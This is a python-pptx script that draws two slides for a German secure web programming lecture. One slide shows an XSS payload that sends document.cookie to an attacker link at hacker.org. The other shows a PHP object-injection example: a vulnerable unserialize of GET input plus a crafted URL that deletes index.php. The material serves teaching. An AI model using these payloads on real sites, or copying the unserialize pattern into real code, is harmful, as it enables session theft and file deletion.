

from lxml import etree
from pptx import Presentation, util as u
from pptx.dml.color import RGBColor
from pptx.enum import shapes, text
from pptx.oxml import ns

# Shared style
FONT = "Calibri"
BLUE = RGBColor(0x4E, 0x83, 0xBF)
LINK_BLUE = RGBColor(0x00, 0x70, 0xC0)
GREY = RGBColor(0x4F, 0x4F, 0x4F)
LIGHT_GREY = RGBColor(0xBF, 0xBF, 0xBF)
RED = RGBColor(0xFF, 0x00, 0x00)
OLIVE = RGBColor(0xAD, 0xBA, 0x1A)
YELLOW = RGBColor(0xFF, 0xFF, 0x00)

TOP, MIDDLE, BOTTOM = (
    text.MSO_ANCHOR.TOP, text.MSO_ANCHOR.MIDDLE, text.MSO_ANCHOR.BOTTOM)
FRAME_LEFT, FRAME_WIDTH = 61.4, 862.5
LABEL_HEIGHT = 29
CODE_LINE = 21.6
TAB_WIDTH = 72
CODE_INSETS = (14.4, 14.4, 14.4, 14.4)
OUTPUT_INSETS = (11.5, 8.6, 14.4, 14.4)
LABEL_INSETS = (7.2, 3.6, 7.2, 3.6)


def add_child(parent, tag, **attributes):
    return etree.SubElement(parent, ns.qn(tag), **attributes)


def add_tab_stops(paragraph, count):
    stops = add_child(paragraph._p.get_or_add_pPr(), "a:tabLst")
    for index in range(1, count + 1):
        add_child(stops, "a:tab", pos=str(u.Pt(TAB_WIDTH * index)), algn="l")


class Deck:
    """Holds the style and the slide being built."""

    def __init__(self):
        self.presentation = Presentation()
        self.presentation.slide_width = u.Pt(960)
        self.presentation.slide_height = u.Pt(540)
        self.slide = None

    def start_slide(self, title, number):
        layout = self.presentation.slide_layouts[6]
        self.slide = self.presentation.slides.add_slide(layout)
        # Heading
        self.slash(18, 58.3, 15.5, 23.7, 1.9, BLUE)
        self.text_box(19.4, 30.2, 773, 20, "ÜBERBLICK", 16, BOTTOM, bold=True)
        paragraph = self.text_box(17.6, 51.6, 922, 68, title, 32, TOP, color=BLUE)
        paragraph.line_spacing = u.Pt(36)
        paragraph._p.get_or_add_pPr().set("indent", str(u.Pt(21.6)))
        # Footer
        self.rule(61.2, 119.5, 510.5)
        self.slash(101.5, 514.5, 4.3, 6.5, 0.6, LIGHT_GREY)
        self.text_box(61.4, 499.7, 562, 8.6, "SICHERE WEB-PROGRAMMIERUNG", 8, BOTTOM)
        self.text_box(61.5, 512.9, 39, 8.6, "14.07.2021", 8, MIDDLE)
        self.text_box(109.4, 512.9, 16, 8.6, str(number), 8, MIDDLE)

    def slash(self, left, top, width, height, stroke, color):
        builder = self.slide.shapes.build_freeform(left, top + height, scale=u.Pt(1))
        builder.add_line_segments([
            (left + width - stroke, top), (left + width, top),
            (left + stroke, top + height)])
        shape = builder.convert_to_shape()
        shape.shadow.inherit = False
        shape.fill.solid()
        shape.fill.fore_color.rgb = color
        shape.line.fill.background()

    def rule(self, left, right, top):
        connector = self.slide.shapes.add_connector(
            shapes.MSO_CONNECTOR.STRAIGHT,
            u.Pt(left), u.Pt(top), u.Pt(right), u.Pt(top))
        connector.line.color.rgb = LIGHT_GREY
        connector.line.width = u.Pt(0.5)
        add_child(connector._element.spPr, "a:effectLst")

    def set_frame(self, shape, insets, anchor, wrap=True):
        frame = shape.text_frame
        frame.word_wrap = wrap
        frame.vertical_anchor = anchor
        (frame.margin_left, frame.margin_top,
         frame.margin_right, frame.margin_bottom) = map(u.Pt, insets)
        return frame

    def run(self, paragraph, words, size, color=GREY, bold=False,
            underline=False, highlight=None):
        run = paragraph.add_run()
        run.text = words
        font = run.font
        font.size, font.bold, font.underline = u.Pt(size), bold, underline
        font.color.rgb = color
        font.name = FONT
        if highlight is not None:
            mark = etree.Element(ns.qn("a:highlight"))
            add_child(mark, "a:srgbClr", val=str(highlight))
            run._r.rPr.find(ns.qn("a:latin")).addprevious(mark)

    def text_box(self, left, top, width, height, words, size, anchor, **style):
        box = self.slide.shapes.add_textbox(*map(u.Pt, (left, top, width, height)))
        paragraph = self.set_frame(box, (0, 0, 0, 0), anchor).paragraphs[0]
        self.run(paragraph, words, size, **style)
        return paragraph

    def rectangle(self, left, top, width, height, line_width):
        shape = self.slide.shapes.add_shape(
            shapes.MSO_SHAPE.RECTANGLE, *map(u.Pt, (left, top, width, height)))
        shape.shadow.inherit = False
        shape.fill.background()
        shape.line.color.rgb = BLUE
        shape.line.width = u.Pt(line_width)
        return shape

    def panel(self, top, height, lines, size, insets):
        """Each line is a list of (words, style) runs; an empty one is a gap."""
        shape = self.rectangle(FRAME_LEFT, top, FRAME_WIDTH, height, 2)
        frame = self.set_frame(shape, insets, TOP)
        paragraph, gap = None, 0
        for line in lines:
            if not line:
                gap += CODE_LINE
                continue
            paragraph = frame.add_paragraph() if paragraph else frame.paragraphs[0]
            paragraph.alignment = text.PP_ALIGN.LEFT
            if gap:
                paragraph.space_before = u.Pt(gap)
                gap = 0
            tabs = line[0][0].count("\t")
            if tabs:
                add_tab_stops(paragraph, tabs)
            for words, style in line:
                self.run(paragraph, words, size, **style)

    def label(self, left, top, width, words, fill=None, opacity=100,
              bold=False, wrap=False):
        shape = self.rectangle(left, top, width, LABEL_HEIGHT, 0.75)
        if fill is not None:
            shape.fill.solid()
            shape.fill.fore_color.rgb = fill
            color = shape._element.spPr.find(ns.qn("a:solidFill"))[0]
            add_child(color, "a:alpha", val=str(opacity * 1000))
        paragraph = self.set_frame(shape, LABEL_INSETS, TOP, wrap).paragraphs[0]
        paragraph.alignment = text.PP_ALIGN.LEFT
        self.run(paragraph, words, 18, bold=bold)


def build_scripting_slide(deck):
    deck.start_slide("CSS (XSS), CROSS-SITE-SCRIPTING", 15)
    # Injected form input
    deck.panel(150.2, 116, [
        [("<script>", {})],
        [("\tdocument.getElementsByTagName('body')[0].innerHTML =", {})],
        [("\t\t‘Please <a url=", {}),
         ("http://hacker.org?", {"color": BLUE, "underline": True}),
         ("’ + ", {}),
         ("document.cookie ", {"color": RED}),
         ("+ ‘>RELOGIN</a>.’;", {})],
        [("</script>", {})],
    ], 18, CODE_INSETS)
    deck.label(60.1, 121, 130.5, "Feedback-Form", OLIVE, 56, bold=True)
    # Resulting page
    deck.panel(327.4, 90.3, [
        [("Please ", {}), ("RELOGIN", {"color": LINK_BLUE}), (".", {})],
    ], 28, OUTPUT_INSETS)
    deck.label(60.8, 299.9, 225.5, "Webseite", RED, 25, bold=True, wrap=True)


def build_injection_slide(deck):
    deck.start_slide("OBJECT INJECTION", 16)
    # Vulnerable class
    code = [
        "class Hello {",
        "     private $cache_file;",
        "",
        "     function __wakeup()   {",
        "          $file = \"/var/www/cache/tmp/{$this->cache_file}\";",
        "          if (file_exists($file)) @unlink($file);",
        "     }",
        "}",
        "",
    ]
    lines = [[(line, {})] if line else [] for line in code]
    lines.append([("$user_data = unserialize($_GET['data']);", {"highlight": YELLOW})])
    deck.panel(113.6, 246.8, lines, 18, CODE_INSETS)
    # Attack address
    address = ("https://site.com/vux.php?data=O:8:„Hello\":1:"
               "{s:10:\"cache_file\";s:15:\"../../index.php\";}")
    deck.panel(379.2, 90.5, [[(address, {})]], 28, OUTPUT_INSETS)
    # Step numbers
    deck.label(886.8, 136.8, 24, "1")
    deck.label(892, 441.6, 24, "2")


def main():
    deck = Deck()
    build_scripting_slide(deck)
    build_injection_slide(deck)
    deck.presentation.save("out.pptx")


if __name__ == "__main__":
    main()
